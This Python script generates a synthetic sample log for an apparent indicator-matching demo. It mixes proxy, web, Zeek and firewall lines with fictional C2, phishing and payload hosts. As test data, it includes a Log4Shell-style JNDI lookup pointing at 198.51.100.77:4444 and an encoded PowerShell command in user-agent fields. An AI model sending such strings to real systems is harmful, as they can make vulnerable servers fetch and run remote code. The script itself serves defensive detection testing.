#!/usr/bin/env python3
"""Regenerates demo/logs/sample.log (deterministic). Run from demo/: python3 make_sample.py

Mixed proxy (squid), web (Apache combined) and Zeek JSON (dns/http/ssl/files) lines with
known sightings of the demo intel, benign look-alikes that must not match, and awkward
lines (invalid UTF-8, NUL, a long line). After changing it, regenerate demo/expected.jsonl
with the README's main command.
"""
import json, random

random.seed(7)
benign_hosts = ["www.example.com", "cdn.example.net", "api.github.com", "updates.vendor.example",
                "notevil-updates.com", "evil-updates.com.au", "mail.example.org", "intranet.corp.local"]
benign_ips = ["10.1.2.3", "192.168.10.20", "172.16.5.4", "93.184.216.34", "198.51.100.24",
              "203.0.112.9", "192.0.2.67", "1.1.1.1"]
# (host, ip, path) picks that give sightings; the rest of the line is filler.
hot = [
    ("evil-updates.com", "10.1.2.3", "/update/check"),
    ("cdn.evil-updates.com", "10.1.2.4", "/x.js"),
    ("status.evil-updates.com", "10.1.2.5", "/ok"),          # allowlisted subdomain
    ("www.example.com", "198.51.100.23", "/"),
    ("www.example.com", "203.0.113.7", "/a"),                # in the /24
    ("www.example.com", "203.0.113.200", "/b"),              # in the /24 and the /25
    ("www.example.com", "203.0.113.53", "/c"),               # allowlisted
    ("dns.google", "8.8.8.8", "/resolve"),                   # allowlisted dirt
    ("phish.example.net", "10.9.9.9", "/login.php"),
    ("malware-drop.net", "10.9.9.10", "/payload.bin"),
    ("a.b.bad-cdn.example.org", "10.9.9.11", "/lib.js"),
    ("c2.darkpanel.io", "192.0.2.66", "/beacon"),
    ("stix-only-phish.com", "10.9.9.12", "/"),
    ("misp-only-payload.xyz", "10.9.9.13", "/gate.php?id=7"),
    ("zeek-only-c2.top", "185.220.101.45", "/"),
    ("sub.zeek-only-c2.top", "100.64.77.9", "/"),
    ("old-sinkhole.net", "192.0.2.200", "/"),
    ("revoked-example.org", "10.9.9.14", "/"),
    ("files.zeek-drop.cc", "10.9.9.15", "/stage2.bin"),
]
agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/8.4.0", "python-requests/2.31",
          "${jndi:ldap://198.51.100.77:4444/a}"]

def pick(i):
    if i % 6 == 0:
        return hot[(i // 6) % len(hot)]
    return (random.choice(benign_hosts), random.choice(benign_ips), "/" + random.choice(["", "index.html", "api/v1/items", "static/app.css"]))

lines = []
for i in range(300):
    host, ip, path = pick(i)
    ts = 1714550400 + i * 7
    kind = i % 5
    ua = agents[3] if i in (41, 203) else random.choice(agents[:3])
    if kind == 0:  # squid native access log
        lines.append(f"{ts}.{i % 1000:03d}    {random.randint(1, 900)} 10.0.0.{i % 250 + 1} TCP_MISS/200 {random.randint(200, 90000)} GET http://{host}{path} - HIER_DIRECT/{ip} text/html")
    elif kind == 1:  # Apache combined
        lines.append(f'{ip} - - [01/May/2024:08:{i % 60:02d}:{i % 59:02d} +0000] "GET {path} HTTP/1.1" 200 {random.randint(100, 9000)} "http://{host}/" "{ua}"')
    elif kind == 2:  # Zeek dns.log JSON
        lines.append(json.dumps({"ts": ts + 0.25, "uid": f"C{i:08x}", "id.orig_h": f"10.0.0.{i % 250 + 1}", "id.orig_p": 50000 + i, "id.resp_h": "10.0.0.53", "id.resp_p": 53, "proto": "udp", "query": host, "qtype_name": "A", "answers": [ip]}, separators=(",", ":")))
    elif kind == 3:  # Zeek http.log JSON
        lines.append(json.dumps({"ts": ts + 0.5, "uid": f"C{i:08x}", "id.orig_h": f"10.0.0.{i % 250 + 1}", "id.orig_p": 50000 + i, "id.resp_h": ip, "id.resp_p": 80, "method": "GET", "host": host, "uri": path, "user_agent": ua, "status_code": 200}, separators=(",", ":")))
    else:  # Zeek ssl.log JSON
        lines.append(json.dumps({"ts": ts + 0.75, "uid": f"C{i:08x}", "id.orig_h": f"10.0.0.{i % 250 + 1}", "id.orig_p": 50000 + i, "id.resp_h": ip, "id.resp_p": 443, "version": "TLSv13", "server_name": host, "established": True}, separators=(",", ":")))

# Specific cases, spread through the file.
special = {
    10: '{"ts":1714550500.1,"uid":"Cf1","fuid":"F1","source":"HTTP","mime_type":"application/x-dosexec","md5":"44d88612fea8a8f36de82e1278abb02f","sha1":"3395856ce81f2b7382dee72602f798b642f14140","sha256":"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}',
    25: 'May  1 08:10:00 mx1 postfix/smtpd[811]: NOQUEUE: from=<CEO-Fraud@Payments-Secure.biz> to=<ap@example.com> proto=ESMTP',
    37: '10.0.0.9 - - [01/May/2024:08:11:00 +0000] "GET /download?f=x HTTP/1.1" 200 12 "-" "powershell.exe -EncodedCommand SQBFAFgA"',
    52: '2024-05-01T08:12:00Z fw1 DENY tcp 10.0.0.7:51514 -> 192.0.2.66:8443 (C2 endpoint with its port)',
    53: '2024-05-01T08:12:01Z fw1 ALLOW tcp 10.0.0.7:51515 -> 192.0.2.66:443 (same address, other port: no sighting)',
    64: '2024-05-01T08:13:00Z fw1 DENY tcp6 [2001:db8:c2::1]:443 <- [2001:db8:bad::17]:51000',
    77: '2024-05-01T08:14:00Z proxy user=bob url=hxxp://evil-updates[.]com/ defanged in a ticket, not a sighting; 1.2.3.4.5 is no address',
    88: '2024-05-01T08:15:00Z fw1 DENY tcp 10.0.0.8:40000 -> 198.51.100.77:4444',
    99: '2024-05-01T08:16:00Z files: empty upload md5=d41d8cd98f00b204e9800998ecf8427f',
    130: '2024-05-01T08:20:00Z edr: sha256=a3c2f6ab8e2f0c5d7b1e9f4a6c8d0b2e4f6a8c0e2d4b6f8a0c2e4d6b8f0a2c4e md5=5d41402abc4b2a76b9719d911017c592',
    131: 'GET https://misp-only-payload.xyz/gate.php?id=7 HTTP/1.1 from 10.0.0.12',
    113: '2024-05-01T08:19:00Z proxy GET http://Phish.Example.NET:80/login.php 200 (URL normalized: host case, default port)',
    142: '2024-05-01T08:21:00Z proxy GET http://files.zeek-drop.cc/stage2.bin 200',
}
for k, v in special.items():
    lines[k] = v

data = [l.encode() for l in lines]
# Awkward bytes: invalid UTF-8 around an indicator, a NUL, a long line with a hit at its end.
data[150] = b'2024-05-01T08:22:00Z weird \xff\xfe bytes \xc3( then malware-drop.net and \x00 NUL'
data[160] = b'2024-05-01T08:23:00Z long ' + b'A' * 9000 + b' tail evil-updates.com'
open("logs/sample.log", "wb").write(b"\n".join(data) + b"\n")
